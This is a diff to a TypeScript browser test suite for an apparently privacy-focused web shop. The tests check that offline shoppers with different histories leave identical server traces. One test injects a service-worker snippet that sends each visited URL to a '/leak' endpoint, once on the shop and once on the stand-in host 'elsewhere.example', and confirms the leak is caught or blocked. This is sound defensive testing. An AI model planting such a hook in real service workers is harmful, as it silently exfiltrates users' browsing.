@@ -1,11 +1,12 @@
 import type { Browser } from "playwright-core";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { launchBrowser } from "./support/browser.ts";
+import { turnOn } from "./support/offline.ts";
 import { type Outside, startOutside } from "./support/outside.ts";
 import { before as prepend } from "./support/prelude.ts";
 import { type SeenRequest, type Shop, startShop, type Tamper } from "./support/shop.ts";
 import { Shopper } from "./support/shopper.ts";
-import { differences } from "./support/trace.ts";
+import { differences, written } from "./support/trace.ts";
 
 let shop: Shop;
 let outside: Outside;
@@ -97,6 +98,10 @@ async function act(
   }
 }
 
+/** When a browser asks for these is its own affair; that it does is the same for everyone. */
+const isBrowsersOwn = ({ path }: SeenRequest): boolean =>
+  /^\/(assets\/icon-.*|here-made\.webmanifest|service-worker\.js)$/.test(path);
+
 /** What the server and everybody else saw of one whole visit. */
 async function visit(
   history: History,
@@ -119,8 +124,7 @@ async function visit(
     };
     return shelf.client.meter.read();
   });
-  // When a browser asks for the page's icon is its own affair; that it does is the same for everyone.
-  const trace = shop.seen.filter(({ path }) => !path.startsWith("/assets/icon-"));
+  const trace = shop.seen.filter((request) => !isBrowsersOwn(request));
   await shopper.leave();
   return { trace, outside: [...outside.heard], outsideMeter: meter.outside, blocked: meter.blocked };
 }
@@ -136,6 +140,40 @@ async function settled(shopper: Shopper): Promise<void> {
   throw new Error("The fuller encoder did not become ready.");
 }
 
+/**
+ * The same of somebody who keeps the shop offline: from the second visit on, with a reload at the end of each round,
+ * wherever the shopper is then.
+ */
+async function visitWithCopy(
+  history: History,
+  rounds: number,
+  actions: number,
+  seed: number,
+): Promise<{ trace: readonly SeenRequest[]; script: ReadonlySet<string>; outside: readonly string[] }> {
+  const shopper = await Shopper.enter(browser, shop);
+  await shopper.seesShelf();
+  await shopper.choose("on");
+  await settled(shopper);
+  await turnOn(shopper);
+  shop.forget();
+  outside.reset();
+  for (let round = 0; round < rounds; round++) {
+    await act(shopper, history, actions, seed + round);
+    await shopper.goTo(`#/p/${history.items[round % history.items.length]}`);
+    const asked = shop.seen.length;
+    await shopper.page.reload();
+    await shopper.shelf("related").locator("sotto-card").first().waitFor();
+    await settled(shopper);
+    while (!shop.seen.slice(asked).some(({ path }) => path.endsWith("/model.json")))
+      await shopper.page.waitForTimeout(50);
+    await shopper.page.waitForTimeout(300);
+  }
+  const trace = shop.seen.filter((request) => !isBrowsersOwn(request));
+  const script = new Set(shop.seen.filter(({ path }) => path.startsWith("/service-worker")).map((one) => written(one)));
+  await shopper.leave();
+  return { trace, script, outside: [...outside.heard] };
+}
+
 describe("the trace", () => {
   it("[N1] [N2] [N3] two journeys of 200 actions give the server the same log, and nobody else anything", async () => {
     const [lamps, kitchen] = [await visit(histories[0], 200, 1), await visit(histories[1], 200, 7)];
@@ -147,6 +185,36 @@ describe("the trace", () => {
       expect(path).not.toMatch(/lamp|mug|\?/);
       expect(headers.map((header) => header.toLowerCase())).not.toContain("referer");
     }
+  });
+
+  it("[N2] [O3] two shoppers who keep the shop offline are the same to the server", async () => {
+    const [lamps, kitchen] = [await visitWithCopy(histories[0], 2, 25, 1), await visitWithCopy(histories[1], 2, 25, 7)];
+    expect(differences(lamps.trace, kitchen.trace)).toEqual([]);
+    // Three lists a visit, to see whether there is anything new: everything else came from the copy.
+    expect(lamps.trace.map(({ path }) => path)).toEqual(
+      Array.from({ length: 2 }, () => [
+        "/offline.json",
+        "/catalogue/manifest.json",
+        "/models/sotto-v0/model.json",
+      ]).flat(),
+    );
+    expect(lamps.script).toEqual(kitchen.script);
+    expect([...lamps.outside, ...kitchen.outside]).toEqual([]);
+  });
+
+  it("[O3] a planted leak in the service worker is caught; to another host it is blocked", async () => {
+    const onEveryNavigation = (to: string) =>
+      prepend(
+        "service-worker",
+        `addEventListener("fetch",({request})=>{if(request.mode==="navigate")fetch("${to}/leak?"+encodeURIComponent(request.url)).catch(()=>{})});`,
+      );
+    shop.tamper(onEveryNavigation(""));
+    const [one, other] = [await visitWithCopy(histories[0], 1, 3, 3), await visitWithCopy(histories[1], 1, 3, 3)];
+    expect(differences(one.trace, other.trace).length).toBeGreaterThan(0);
+    shop.tamper(onEveryNavigation("http://elsewhere.example"));
+    const [far, away] = [await visitWithCopy(histories[0], 1, 3, 3), await visitWithCopy(histories[1], 1, 3, 3)];
+    expect(differences(far.trace, away.trace)).toEqual([]);
+    expect([...far.outside, ...away.outside]).toEqual([]);
   });
 
   /** On every step, code that tells somebody what is looked at. `WHAT` stands for it. */
